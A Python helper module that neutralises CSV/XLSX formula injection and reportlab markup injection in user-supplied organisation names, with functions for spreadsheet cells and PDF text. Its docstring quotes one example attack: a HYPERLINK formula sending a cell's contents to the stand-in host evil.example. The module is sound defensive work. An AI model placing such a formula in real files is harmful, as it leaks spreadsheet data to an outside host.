"""Names typed by people, made safe for the files we hand out (one helper per format).

Organisation, unit, offer and area names are free text. Written as they are, a name such
as ``=HYPERLINK("http://evil.example/?x="&B3,"Theatre")`` becomes a live formula in a
coordinator's spreadsheet, and ``<b>unclosed`` or ``<a href=…>`` changes (or breaks) a
PDF built from reportlab paragraphs. Every CSV/XLSX writer passes each cell through
`spreadsheet_cell`, and every text that goes into a reportlab `Paragraph` through
`pdf_text`.
"""

from __future__ import annotations

import html
import re
from typing import Any

# A spreadsheet program reads a cell that starts with one of these as a formula (tab and
# carriage return because some programs drop them and read what follows).
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
# Characters an XLSX (XML 1.0) cell cannot hold: openpyxl refuses them with an error.
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def spreadsheet_cell(value: Any) -> Any:
    """A cell value that no spreadsheet program evaluates. Numbers (and None) pass as they
    are; text that would start a formula, also after leading spaces or line breaks, gets a
    leading apostrophe, the spreadsheet's own "this is text" mark."""
    if value is None or isinstance(value, bool | int | float):
        return value
    text = _CONTROL.sub("", str(value))
    if text.lstrip(" \n").startswith(FORMULA_LEADS) or text.startswith(FORMULA_LEADS):
        return "'" + text
    return text


def spreadsheet_row(values: list[Any]) -> list[Any]:
    return [spreadsheet_cell(v) for v in values]


def pdf_text(value: Any) -> str:
    """Text for a reportlab `Paragraph`, whose input is markup: every <, > and & is escaped
    so a name shows as written and can neither add tags (links, fonts) nor break the
    document."""
    return html.escape(_CONTROL.sub("", str(value)), quote=False)
